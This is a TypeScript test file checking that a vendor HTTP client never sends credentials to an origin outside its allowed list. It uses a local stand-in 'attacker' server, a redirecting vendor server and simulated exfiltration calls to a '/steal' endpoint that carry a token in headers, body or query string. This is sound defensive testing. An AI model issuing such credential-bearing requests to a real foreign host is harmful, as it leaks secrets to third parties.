import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { connectionOrigins } from '../../controller/core/wiring.ts';
import { createDriverTable } from '../../controller/vendors/registry.ts';
import { Dispatchers } from '../../controller/http/dispatchers.ts';
import { RateLimiter } from '../../controller/http/rate-limiter.ts';
import { createVendorHttp } from '../../controller/http/vendor-http.ts';
import { VendorConnection } from '../../specs/index.ts';
import { startServer, VirtualClock, type TestServer } from './helpers.ts';

const SECRET = 'vendor-token-123';
let vendorServer: TestServer;
let attacker: TestServer;
let dispatchers: Dispatchers;

before(async () => {
  attacker = await startServer((_req, res) => {
    res.writeHead(200).end('{}');
  });
  // The vendor's server answers every call with a redirect to the attacker.
  vendorServer = await startServer((req, res) => {
    res.writeHead(302, { location: `${attacker.url}${req.url}` }).end();
  });
  dispatchers = new Dispatchers({ connectTimeoutMs: 2_000 });
});
after(async () => {
  await dispatchers.close();
  await vendorServer.close();
  await attacker.close();
});

function http() {
  const clock = new VirtualClock();
  return createVendorHttp({
    vendor: 'v',
    limiter: new RateLimiter({ key: 't', windows: [{ limit: 100, perSeconds: 1 }], clock }),
    secrets: [SECRET],
    origins: [new URL(vendorServer.url).origin],
    dispatchers,
    clock,
    retry: { maxAttempts: 1 },
  });
}

describe("credentials never leave the connection's origins", () => {
  it('does not follow a redirect to another origin, so the credential is sent once, to the vendor', async () => {
    const res = await http().request({
      method: 'GET',
      safe: true,
      url: `${vendorServer.url}/x`,
      headers: { authorization: `Bearer ${SECRET}` },
    });
    assert.equal(res.status, 302);
    assert.equal(attacker.hits.length, 0);
  });

  it('refuses a call to another origin that carries a credential (header, URL or body, plain or base64)', async () => {
    const calls: Array<{ headers: Record<string, string>; body?: unknown }> = [
      { headers: { 'x-api-token': 'anything' } },
      { headers: { accept: 'application/json' }, body: { token: SECRET } },
      { headers: { accept: `Basic ${Buffer.from(SECRET).toString('base64')}` } },
    ];
    for (const call of calls) {
      await assert.rejects(http().request({ method: 'POST', safe: false, url: `${attacker.url}/steal`, ...call }), {
        code: 'HTTP_CROSS_ORIGIN_CREDENTIAL',
      });
    }
    await assert.rejects(
      http().request({ method: 'GET', safe: true, url: `${attacker.url}/steal?k=${SECRET}` }),
      (err: Error & { code?: string }) => {
        assert.equal(err.code, 'HTTP_CROSS_ORIGIN_CREDENTIAL');
        assert.ok(!err.message.includes(SECRET));
        return true;
      },
    );
    assert.equal(attacker.hits.length, 0);
    // Without any credential a foreign origin may be read (e.g. a pre-signed archive URL).
    assert.equal((await http().request({ method: 'GET', safe: true, url: `${attacker.url}/archive.zip` })).status, 200);
  });

  it('allows exactly the origins written in the vendor file', () => {
    const spec = VendorConnection.parse({
      apiVersion: 'lethe/v1',
      kind: 'VendorConnection',
      metadata: { name: 'ep' },
      spec: { type: 'elasticpath', region: 'euwest', credentials: { clientId: 'env:A', clientSecret: 'env:B' } },
    }).spec;
    assert.deepEqual(connectionOrigins(spec, createDriverTable().elasticpath), ['https://euwest.api.elasticpath.com']);
  });
});
